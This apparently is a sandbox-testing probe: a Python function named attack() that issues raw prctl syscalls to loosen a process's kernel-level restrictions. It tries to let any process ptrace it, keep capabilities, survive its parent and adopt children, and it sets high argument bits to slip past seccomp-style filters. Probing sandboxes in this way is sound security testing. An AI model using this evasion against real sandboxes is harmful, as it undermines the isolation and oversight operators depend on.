"""Change what its process is to the kernel: outlive its parent, be looked into, adopt children."""

import ctypes
import os

PRCTL = {"x86_64": 157, "aarch64": 167}[os.uname().machine]
OPTIONS = {
    "PR_SET_PDEATHSIG": (1, 0),
    "PR_SET_DUMPABLE": (4, 1),
    "PR_SET_KEEPCAPS": (8, 1),
    "PR_SET_TSC": (26, 1),
    "PR_SET_TIMERSLACK": (29, 1),
    "PR_SET_CHILD_SUBREAPER": (36, 1),
    "PR_SET_THP_DISABLE": (41, 1),
    "PR_SET_PTRACER": (0x59616D61, -1),
}


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for name, (option, value) in OPTIONS.items():
        for high in (0, 1 << 32):  # the kernel looks at the low word only
            arguments = (ctypes.c_long(value), *[ctypes.c_long(0)] * 3)
            if libc.syscall(ctypes.c_long(PRCTL), ctypes.c_long(option | high), *arguments) >= 0:
                return f"{name} was done"
